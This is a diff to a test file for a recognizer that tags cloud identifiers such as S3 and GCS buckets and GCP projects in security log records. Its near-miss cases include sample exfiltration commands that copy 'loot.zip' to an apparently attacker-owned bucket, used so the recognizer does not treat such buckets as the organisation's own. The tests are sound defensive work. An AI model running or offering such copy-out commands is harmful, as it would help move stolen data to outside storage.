@@ -31,6 +31,17 @@ SID = SidRecognizer()
      {("AWS_RESOURCE_ID", "i-0a1b2c3d4e5f67890"), ("AWS_RESOURCE_ID", "vpc-0abc1234def567890"),
       ("AWS_RESOURCE_ID", "subnet-01234567"), ("AWS_RESOURCE_ID", "sg-0fedcba9876543210"),
       ("AWS_RESOURCE_ID", "vol-0a1b2c3d")}),
+    # our buckets, where the record says they are ours
+    ('"requestParameters":{"bucketName":"hb-ledger-exports","key":"2024/05/ledger.csv"}',
+     {("STORAGE_BUCKET", "hb-ledger-exports")}),
+    ('"resource":{"type":"gcs_bucket","labels":{"bucket_name":"hb.ledger_exports"}}', {("STORAGE_BUCKET", "hb.ledger_exports")}),
+    ('"ARN":"arn:aws:s3:::hb-ledger-exports/2024/05/ledger.csv"', {("STORAGE_BUCKET", "hb-ledger-exports")}),
+    ('"Resource": ["arn:aws:s3:::hb-ledger-exports", "arn:aws:s3:::hb-ledger-exports/*"]',
+     {("STORAGE_BUCKET", "hb-ledger-exports")}),
+    ("79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be hb-ledger-exports [06/Feb/2024:00:00:38 +0000] "
+     "185.174.187.29 - 3E57427F3EXAMPLE REST.GET.OBJECT ledger.csv", {("STORAGE_BUCKET", "hb-ledger-exports")}),
+    ("projects/_/buckets/hb-ledger-exports/objects/2024/ledger.csv", {("STORAGE_BUCKET", "hb-ledger-exports")}),
+    ("projects/acme-prod-221/buckets/acme-backups", {("STORAGE_BUCKET", "acme-backups"), ("GCP_PROJECT", "acme-prod-221")}),
     ("projects/acme-prod-221/logs", {("GCP_PROJECT", "acme-prod-221")}),
     ("project_id: acme-data-77", {("GCP_PROJECT", "acme-data-77")}),
     ("GCP project acme-prod-4412 was abused", {("GCP_PROJECT", "acme-prod-4412")}),
@@ -55,6 +66,10 @@ def test_cloud_hits(text, expected):
     "2 482913657201 packets", "12 482913657201 eni-0a1b2c3d",   # not a flow log record's shape
     "the GCP project was created in 2021", "GCP project owners were notified",
     "GCP project settings.json",                      # a word and a file, not a project ID
+    # a bucket named only in a command or prose can be the attacker's; a reference, a variable, an empty name
+    "aws s3 cp loot.zip s3://exfil-drop-7731/", "gsutil cp x gs://exfil-drop-7731", "their bucket exfil-drop-7731",
+    'bucket_name = var.exports_bucket', 'bucketName: "${BUCKET}"', '"bucketName": ""', "bucketname=a",
+    "arn:aws:s3:::${aws:username}", "79a59df9 hb-ledger-exports [06/Feb/2024:00:00:38 +0000]",
 ])
 def test_cloud_near_misses(text):
     # (the interface of a record that is no flow log's is still our account's resource)
